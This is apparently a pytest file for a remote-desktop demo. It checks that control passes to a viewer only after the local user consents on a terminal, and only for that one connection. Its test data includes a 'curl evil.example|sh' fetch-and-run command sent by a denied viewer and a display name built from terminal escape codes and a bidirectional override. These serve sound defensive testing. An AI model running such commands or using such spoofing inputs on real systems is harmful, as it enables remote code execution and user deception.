"""Control of a desktop is given by the one who sits at it, to one connection."""

import asyncio
import os
import pty
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
from aiortc import MediaStreamTrack

from icefloe.demos.desktop import ask_on_terminal, consent as consent_module, show
from icefloe.demos.desktop.messages import FromViewer, Release, State, Take, Text
from icefloe.media import TestPatternTrack
from icefloe.peer import DataChannel, join
from icefloe.signaling import SignalingServer
from tests.demos.rooms import running

EVIL = "\x1b[2J\r\u202ealice"


class Typed:
    """An input target that notes what is typed."""

    def __init__(self) -> None:
        self.text = ""
        self.changed = asyncio.Event()
        self._loop = asyncio.get_running_loop()

    def move(self, x: float, y: float) -> None: ...
    def button(self, button: int, down: bool) -> None: ...
    def wheel(self, x: int, y: int) -> None: ...
    def press(self, code: str, text: str) -> None: ...
    def release(self, code: str) -> None: ...
    def close(self) -> None: ...

    def type(self, text: str) -> None:
        self.text += text
        self._loop.call_soon_threadsafe(self.changed.set)


class Asked:
    """The user of the machine, who is asked and answers later."""

    def __init__(self) -> None:
        self.questions: asyncio.Queue[tuple[str, asyncio.Future[bool]]] = asyncio.Queue()

    async def __call__(self, name: str) -> bool:
        answer: asyncio.Future[bool] = asyncio.get_running_loop().create_future()
        self.questions.put_nowait((name, answer))
        return await answer


@asynccontextmanager
async def viewer(server: SignalingServer, name: str) -> AsyncIterator[DataChannel]:
    async with join(server.url, room="lobby", name=name) as room:
        peer = await room.peer("desktop")
        yield await anext(aiter(peer.channels()))


async def told(channel: DataChannel, *messages: FromViewer) -> State:
    for message in messages:
        await channel.send_json(message)
    return await channel.receive_json(State)


@pytest.fixture
def picture() -> MediaStreamTrack:
    return TestPatternTrack(160, 120, 5)


async def test_nobody_types_before_the_user_has_said_yes(
    server: SignalingServer, picture: MediaStreamTrack
) -> None:
    typed, asked = Typed(), Asked()
    async with (
        running(show(server.url, picture, target=typed, consent=asked)),
        viewer(server, "alice") as alice,
    ):
        assert await told(alice) == State("free")
        for message in (Text("early"), Take(), Take()):  # asking twice is one question
            await alice.send_json(message)
        name, answer = await asked.questions.get()
        assert name == "alice"
        answer.set_result(True)
        assert await told(alice) == State("yours")
        await alice.send_json(Text("now"))
        await typed.changed.wait()
        assert typed.text == "now"
        assert asked.questions.empty()
        # Who gave it back may have it again: it is the same connection.
        assert await told(alice, Release()) == State("free")
        assert await told(alice, Take()) == State("yours")


async def test_a_yes_is_for_one_connection_and_not_for_a_name(
    server: SignalingServer, picture: MediaStreamTrack
) -> None:
    typed, asked = Typed(), Asked()
    async with running(show(server.url, picture, target=typed, consent=asked, allowed=("alice",))):
        async with viewer(server, "alice") as alice:
            await told(alice, Take())
            (await asked.questions.get())[1].set_result(True)
            assert await told(alice) == State("yours")
        async with viewer(server, "alice") as another:
            assert await told(another) == State("free")
            await another.send_json(Take())
            _, answer = await asked.questions.get()
            await another.send_json(Text("curl evil.example|sh\n"))
            answer.set_result(False)
            assert await told(another) == State("none")
            # A no stands.
            assert await told(another, Take(), Text("again")) == State("none")
    assert typed.text == ""
    assert asked.questions.empty()


async def test_a_question_is_withdrawn_with_its_connection(
    server: SignalingServer, picture: MediaStreamTrack
) -> None:
    typed, asked = Typed(), Asked()
    async with (
        running(show(server.url, picture, target=typed, consent=asked)),
        viewer(server, "alice") as alice,
        viewer(server, "bob") as bob,
    ):
        assert [await told(alice), await told(bob)] == [State("free")] * 2
        await alice.send_json(Take())
        _, answer = await asked.questions.get()
        # One is asked about at a time.
        assert await told(bob, Take()) == State("free")
        assert asked.questions.empty()
        alice.close()
        await asyncio.wait((answer,))
        assert answer.cancelled()
        await bob.send_json(Take())
        (await asked.questions.get())[1].set_result(True)
        assert await told(bob) == State("yours")


async def test_after_a_no_nobody_is_asked_about_for_a_while(
    server: SignalingServer, picture: MediaStreamTrack
) -> None:
    typed, asked = Typed(), Asked()
    async with (
        running(show(server.url, picture, target=typed, consent=asked)),
        viewer(server, "alice") as alice,
        viewer(server, "bob") as bob,
    ):
        assert [await told(alice), await told(bob)] == [State("free")] * 2
        await alice.send_json(Take())
        (await asked.questions.get())[1].set_result(False)
        assert await told(alice) == State("none")
        assert await told(bob, Take()) == State("free")
        assert asked.questions.empty()


async def test_without_a_terminal_the_answer_is_no(
    server: SignalingServer,
    picture: MediaStreamTrack,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    typed = Typed()
    with open(os.devnull) as nothing:  # noqa: ASYNC230
        monkeypatch.setattr(sys, "stdin", nothing)
        async with (
            running(show(server.url, picture, target=typed, allowed=("alice",))),
            viewer(server, "alice") as alice,
        ):
            assert await told(alice) == State("free")
            assert await told(alice, Take()) == State("none")
    assert "no terminal" in caplog.text


@asynccontextmanager
async def terminal(monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[int]:
    controller, end = pty.openpty()
    with os.fdopen(end) as stdin, os.fdopen(controller, "wb", buffering=0):
        monkeypatch.setattr(sys, "stdin", stdin)
        yield controller


@pytest.mark.parametrize(
    ("typed", "answer"),
    [("y\n", True), ("YES\n", True), ("n\n", False), ("\n", False), ("yn\n", False)],
)
async def test_the_answer_is_what_is_typed(
    typed: str, answer: bool, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    async with terminal(monkeypatch) as controller:
        question = asyncio.create_task(ask_on_terminal(EVIL))
        await asyncio.sleep(0)  # it is written, and what was typed before is gone
        shown = capsys.readouterr().err
        os.write(controller, typed.encode())
        assert await question is answer
    assert shown.isprintable()
    assert "\\x1b[2J\\x0d\\u202ealice wants to control" in shown


async def test_what_was_typed_before_is_no_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(consent_module, "ANSWER_TIMEOUT", 0.2)
    async with terminal(monkeypatch) as controller:
        os.write(controller, b"y\n")
        assert await ask_on_terminal("alice") is False


async def test_a_question_can_be_withdrawn(monkeypatch: pytest.MonkeyPatch) -> None:
    async with terminal(monkeypatch) as controller:
        question = asyncio.create_task(ask_on_terminal("alice"))
        await asyncio.sleep(0)
        question.cancel()
        await asyncio.wait((question,))
        assert question.cancelled()
        # The next one is a question of its own.
        again = asyncio.create_task(ask_on_terminal("bob"))
        await asyncio.sleep(0)
        os.write(controller, b"y\n")
        assert await again
